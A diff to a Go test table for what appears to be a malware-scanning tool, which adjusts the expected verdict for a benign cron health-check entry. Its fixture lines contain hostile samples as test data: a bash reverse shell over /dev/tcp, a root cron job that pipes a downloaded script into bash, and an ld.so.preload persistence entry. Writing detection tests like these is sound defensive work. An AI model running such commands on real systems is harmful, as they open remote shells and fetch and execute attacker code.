@@ -68,7 +68,7 @@ func TestVerdicts(t *testing.T) {
 		{"home/u/note.txt", "the text of " + eicar, "GREY light text"},
 		{"tmp/x", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.5/4444 0>&1\n", "BLACK light sh reverse-shell T1059.004"},
 		{"etc/cron.d/x", "*/5 * * * * root curl -s http://10.0.0.5/a.sh | bash\n", "BLACK light text persistence T1053.003 T1105"},
-		{"etc/cron.d/y", "*/5 * * * * root curl -fsS https://hc.example/ping >/dev/null\n", "GREY light text"},
+		{"etc/cron.d/y", "*/5 * * * * root curl -fsS https://hc.example/ping >/dev/null\n", "GREY light text persistence T1053.003"},
 		{"etc/ld.so.preload", "/dev/shm/lib.so\n", "BLACK light text persistence T1574.006"},
 		{"empty", "", "GREY light empty"},
 	} {
